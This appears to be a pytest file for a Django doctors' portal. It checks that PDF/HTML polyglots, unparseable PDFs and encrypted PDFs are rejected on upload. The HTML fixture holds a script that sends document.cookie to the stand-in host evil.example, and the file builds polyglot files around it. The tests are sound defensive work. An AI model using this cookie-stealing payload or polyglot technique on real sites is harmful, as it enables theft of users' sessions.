"""Issue 15, point 11 (second half): proof documents, attachments and enquiry reports are
stored under names from their checked type, and a PDF must parse (pypdf), so a PDF/HTML
polyglot, which only starts like a PDF, is refused everywhere a PDF is taken."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from doctors.models import ProofDocument
from doctors.uploads import check_proof_document
from portal.pdfs import ACTIVE, ENCRYPTED, UNREADABLE, BadPdf, pdf_check
from questions.attachments import check_attachment
from tests.doctors.files import minimal_pdf, pdf_bytes
from tests.factories import DoctorFactory

HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"

# Starts like a PDF, is a web page after its first line: on main this passed both checks.
POLYGLOT_HEADER_ONLY = b"%PDF-1.7\n" + HTML + b"</body></html>\n%%EOF\n"
# A PDF that parses, with a web page tacked on after %%EOF.
POLYGLOT_APPENDED = pdf_bytes() + HTML + b"</body></html>\n"


@pytest.mark.parametrize(
    ("data", "code"),
    [(POLYGLOT_HEADER_ONLY, ACTIVE), (POLYGLOT_APPENDED, ACTIVE)],
    ids=["header-only", "appended-page"],
)
def test_issue15_point11_a_pdf_html_polyglot_is_refused(data, code):
    with pytest.raises(BadPdf) as caught:
        pdf_check(data)
    assert caught.value.code == code


@pytest.mark.parametrize("data", [POLYGLOT_HEADER_ONLY, POLYGLOT_APPENDED])
@pytest.mark.parametrize("check", [check_proof_document, check_attachment])
def test_issue15_point11_every_upload_refuses_the_polyglot_with_its_name(check, data):
    with pytest.raises(ValidationError) as caught:
        check(SimpleUploadedFile("certificate.pdf", data, content_type="application/pdf"))
    assert "“certificate.pdf”" in caught.value.messages[0]


def test_issue15_point11_a_pdf_that_does_not_parse_is_refused():
    for data in (pdf_bytes()[:200], b"%PDF-1.4\nnot a pdf at all, just text after the header"):
        with pytest.raises(BadPdf) as caught:
            pdf_check(data)
        assert caught.value.code == UNREADABLE
    # A real PDF still passes.
    pdf_check(minimal_pdf(["Certificate of Registration"]))


def test_issue15_point11_an_encrypted_pdf_is_refused():
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt(user_password="secret", owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(BadPdf) as caught:
        pdf_check(buffer.getvalue())
    assert caught.value.code == ENCRYPTED


@pytest.mark.django_db
def test_issue15_point11_a_proof_document_is_stored_by_its_checked_type():
    """Sent as "certificate.html", kept as <uuid>.pdf."""
    doctor = DoctorFactory()
    checked = check_proof_document(SimpleUploadedFile("certificate.html", pdf_bytes()))
    document = ProofDocument.objects.create(
        doctor=doctor,
        file=checked.file,
        kind=checked.kind,
        original_name=checked.original_name,
        size=checked.size,
    )
    assert document.file.name.endswith(".pdf")
    assert "certificate" not in document.file.name
    assert document.original_name == "certificate.html"
